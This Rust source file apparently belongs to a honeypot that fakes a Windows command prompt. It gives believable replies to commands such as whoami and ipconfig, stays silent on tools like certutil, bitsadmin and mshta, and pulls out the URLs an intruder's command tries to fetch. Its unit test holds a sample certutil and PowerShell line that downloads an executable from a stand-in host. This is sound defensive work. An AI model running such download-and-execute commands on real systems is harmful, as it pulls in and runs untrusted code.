//! What a command line of Windows answers: a few programs, as far as they are asked about the host itself.

use netsvc_kit::Host;

/// Programs that there are and that say nothing here.
const SILENT: &[&str] = &[
    "powershell",
    "powershell.exe",
    "certutil",
    "certutil.exe",
    "bitsadmin",
    "cmd",
    "cmd.exe",
    "start",
    "reg",
    "copy",
    "del",
    "md",
    "mkdir",
    "rd",
    "rmdir",
    "move",
    "ren",
    "attrib",
    "cacls",
    "icacls",
    "schtasks",
    "wmic",
    "sc",
    "cscript",
    "wscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "ftp",
    "taskkill",
    "curl",
    "curl.exe",
    "set",
    "cd",
    "rem",
];

/// Whose command lines they are.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Account<'a> {
    /// As `whoami` tells.
    pub(crate) name: &'a str,
    /// Name of the machine.
    pub(crate) machine: &'a str,
    /// Whether it is an administrator's.
    pub(crate) elevated: bool,
}

/// Lines that a command line gives.
pub(crate) fn lines(host: &Host, account: Account<'_>, command: &str) -> Vec<String> {
    let persona = host.persona();
    let mut words = command.split_whitespace();
    let program = words.next().unwrap_or_default().to_lowercase();
    let rest = words.collect::<Vec<_>>().join(" ");
    let lower = rest.to_lowercase();
    match program.as_str() {
        "whoami" | "whoami.exe" if lower.is_empty() => vec![account.name.to_owned()],
        "hostname" | "hostname.exe" => vec![account.machine.to_owned()],
        "ver" => vec![
            String::new(),
            format!("Microsoft Windows [Version {}.{}]", persona.os.version, persona.os.build),
        ],
        "echo" if !rest.contains('>') => vec![if rest.is_empty() { "ECHO is on.".to_owned() } else { rest }],
        "echo" => Vec::new(),
        "ipconfig" | "ipconfig.exe" => address(host),
        "net" | "net.exe" | "net1" => net(&lower, account.elevated),
        "type" => vec!["The system cannot find the file specified.".to_owned()],
        "dir" if lower.is_empty() || lower.starts_with("c:") => folder(host),
        "dir" => vec!["File Not Found".to_owned()],
        "ping" => vec!["Access denied. Option  requires administrative privileges.".to_owned()],
        known if SILENT.contains(&known) => Vec::new(),
        "" => Vec::new(),
        unknown => vec![
            format!("'{unknown}' is not recognized as an internal or external command,"),
            "operable program or batch file.".to_owned(),
        ],
    }
}

fn net(rest: &str, elevated: bool) -> Vec<String> {
    let denied = ["System error 5 has occurred.", "", "Access is denied.", ""];
    match rest.split_whitespace().next() {
        _ if elevated => vec!["The command completed successfully.".to_owned(), String::new()],
        Some("user" | "localgroup" | "group") if rest.contains("/add") || rest.contains("/del") => {
            denied.map(str::to_owned).to_vec()
        }
        Some("start" | "stop") => denied.map(str::to_owned).to_vec(),
        _ => vec!["The command completed successfully.".to_owned(), String::new()],
    }
}

fn address(host: &Host) -> Vec<String> {
    let persona = host.persona();
    let bits = u32::MAX.checked_shl(32 - u32::from(persona.prefix.min(32))).unwrap_or(0);
    let mask = std::net::Ipv4Addr::from(bits);
    let gateway = persona.gateway.map(|gateway| gateway.to_string()).unwrap_or_default();
    vec![
        String::new(),
        "Windows IP Configuration".to_owned(),
        String::new(),
        String::new(),
        "Ethernet adapter Ethernet0:".to_owned(),
        String::new(),
        format!("   Connection-specific DNS Suffix  . : {}", persona.domain),
        format!("   IPv4 Address. . . . . . . . . . . : {}", persona.ip),
        format!("   Subnet Mask . . . . . . . . . . . : {mask}"),
        format!("   Default Gateway . . . . . . . . . : {gateway}"),
    ]
}

fn folder(host: &Host) -> Vec<String> {
    let serial = host.persona().hardware.machine_id.to_uppercase();
    let (first, second) = (serial.get(..4).unwrap_or("1C2D"), serial.get(4..8).unwrap_or("3E4F"));
    vec![
        " Volume in drive C has no label.".to_owned(),
        format!(" Volume Serial Number is {first}-{second}"),
        String::new(),
        " Directory of C:\\Windows\\system32".to_owned(),
        String::new(),
        "File Not Found".to_owned(),
    ]
}

/// Addresses of what a command line would fetch.
pub(crate) fn urls(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    for scheme in ["http://", "https://", "ftp://", "\\\\"] {
        for (at, _) in command.match_indices(scheme).take(8) {
            let rest = command.get(at..).unwrap_or_default();
            let ends = |letter: char| letter.is_whitespace() || "'\"`<>|);,".contains(letter);
            let end = rest.find(ends).unwrap_or(rest.len());
            found.extend(rest.get(..end).filter(|url| scheme.len() < url.len()).map(str::to_owned));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_found_in_command_lines() {
        let command =
            "certutil -urlcache -f http://192.0.2.1/a.exe c:\\a.exe & powershell \"iwr('https://x/y')\"";
        assert_eq!(urls(command), ["http://192.0.2.1/a.exe", "https://x/y"]);
        assert!(urls("dir c:\\").is_empty());
    }
}
